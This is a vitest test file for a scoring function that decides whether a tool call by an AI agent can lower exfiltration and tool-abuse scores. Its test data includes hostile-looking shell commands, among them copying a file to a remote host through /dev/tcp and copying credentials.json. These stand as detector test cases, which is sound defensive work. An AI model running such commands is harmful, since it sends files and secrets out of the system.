import { describe, expect, test } from "vitest";
import type { HeadScores } from "../../../workers/engine/head-scorer.ts";
import { boundByCall } from "../../../workers/engine/tool/head-bounds.ts";

const sure = { probability: 0.9, start: 0, end: 5 };
const calm = { probability: 0.01, start: 0, end: 5 };
const scores: HeadScores = {
  injection: calm,
  indirect: calm,
  harmful: calm,
  exfiltration: sure,
  tool_abuse: sure,
  defence: 0,
};

describe("what a head may say of a call", () => {
  test.each([
    ["settings copied", "bash", "cp config/default.toml ~/.config/x/config.toml"],
    ["a local test", "bash", "vitest run --no-file-parallelism --config vitest.config.ts"],
  ])("nothing leaves by %s", (_, tool, text) => {
    const bound = boundByCall(scores, text, tool);
    expect(bound.exfiltration.probability).toBeLessThan(0.3);
    expect(bound.tool_abuse).toBe(sure);
  });

  test.each([
    ["an address", "bash", "cp a b; curl https://example.org"],
    ["a pipe", "bash", "cat a | ./b"],
    ["another host", "bash", "cp a /dev/tcp/10.1.2.3/80"],
    ["a secret", "bash", "cp credentials.json b"],
    ["a tool that runs no commands", "read_file", "config.php"],
  ])("%s leaves the head its say", (_, tool, text) => {
    expect(boundByCall(scores, text, tool).exfiltration).toBe(sure);
  });

  test.each([
    ["web_search", 0.25],
    ["search_code", 0.9],
  ])("words given to %s run as likely as %d", (tool, probability) => {
    expect(boundByCall(scores, '{"query":"Windows (PowerShell)"}', tool).tool_abuse.probability).toBe(probability);
  });
});
